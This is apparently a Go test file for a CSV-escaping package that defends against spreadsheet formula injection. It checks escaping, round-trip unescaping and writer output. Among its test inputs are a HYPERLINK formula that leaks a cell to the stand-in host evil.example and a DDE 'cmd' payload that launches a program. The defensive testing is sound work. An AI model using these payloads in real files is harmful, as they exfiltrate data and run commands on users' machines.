package csvsafe

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
)

func TestCell(t *testing.T) {
	t.Parallel()
	cases := []struct{ in, want string }{
		// OWASP's list.
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"=1+1", "'=1+1"},
		{"+SUM(1,2)", "'+SUM(1,2)"},
		{"-2+3", "'-2+3"},
		{"@SUM(1)", "'@SUM(1)"},
		{"\t=1", "'\t=1"},
		{"\tplain", "'\tplain"},
		{"\r=1", "'\r=1"},
		{"\rplain", "'\rplain"},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		// Wider: leading white space, full-width signs, quotes already there.
		{" =1", "' =1"},
		{"\n=1", "'\n=1"},
		{"\u3000=1", "'\u3000=1"},
		{"\u00a0+1", "'\u00a0+1"},
		{"＝1+1", "'＝1+1"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠SUM(1)", "'＠SUM(1)"},
		{"'=1", "''=1"},
		{"''+1", "'''+1"},
		{"' \t", "'' \t"},
		{"-", "'-"},
		{"-abc", "'-abc"},
		{"1e5x", "1e5x"},
		// Numbers stay numbers.
		{"-0.5", "-0.5"},
		{"+3", "+3"},
		{"-1e-05", "-1e-05"},
		{"-1.5E+10", "-1.5E+10"},
		{"-.5", "-.5"},
		{"-5.", "-5."},
		{"-Inf", "-Inf"},
		{"+Inf", "+Inf"},
		{"NaN", "NaN"},
		{"0", "0"},
		// Plain text and the rest stay as they are.
		{"", ""},
		{"disk-01", "disk-01"},
		{"a=b", "a=b"},
		{"x-1", "x-1"},
		{" plain", " plain"},
		{"'quoted", "'quoted"},
		{"'", "'"},
		{"2026-11-22T12:00:00Z", "2026-11-22T12:00:00Z"},
		{"-1e", "'-1e"},
		{"-e5", "'-e5"},
		{"-0x1p-2", "'-0x1p-2"},
		{"-1_000", "'-1_000"},
		{"café", "café"},
		{"élan", "élan"},
	}
	for _, c := range cases {
		if got := Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
		if got := Unescape(Cell(c.in)); got != c.in {
			t.Errorf("Unescape(Cell(%q)) = %q", c.in, got)
		}
	}
}

// Unescape(Cell(s)) == s over every short string of the characters that
// matter, so the form is reversible (a bundle can rely on it).
func TestUnescapeInvertsCell(t *testing.T) {
	t.Parallel()
	alphabet := []string{"'", "=", "-", "+", "@", " ", "\t", "\r", "1", ".", "e", "a", "＝", "\u3000"}
	var walk func(prefix string, depth int)
	walk = func(prefix string, depth int) {
		if got := Unescape(Cell(prefix)); got != prefix {
			t.Fatalf("Unescape(Cell(%q)) = %q", prefix, got)
		}
		if depth == 0 {
			return
		}
		for _, c := range alphabet {
			walk(prefix+c, depth-1)
		}
	}
	walk("", 4)
}

func TestWriter(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	w := NewWriter(&b)
	rec := []string{"7", "=1+1", "-0.5", `a,"b"`, "@x"}
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(rec, []string{"7", "=1+1", "-0.5", `a,"b"`, "@x"}) {
		t.Fatalf("Write changed its argument: %q", rec)
	}
	if got, want := b.String(), "7,'=1+1,-0.5,\"a,\"\"b\"\"\",'@x\n"; got != want {
		t.Fatalf("wrote %q, want %q", got, want)
	}
	back, err := csv.NewReader(&b).Read()
	if err != nil {
		t.Fatal(err)
	}
	for i := range back {
		back[i] = Unescape(back[i])
	}
	if !slices.Equal(back, rec) {
		t.Fatalf("read back %q, want %q", back, rec)
	}
}
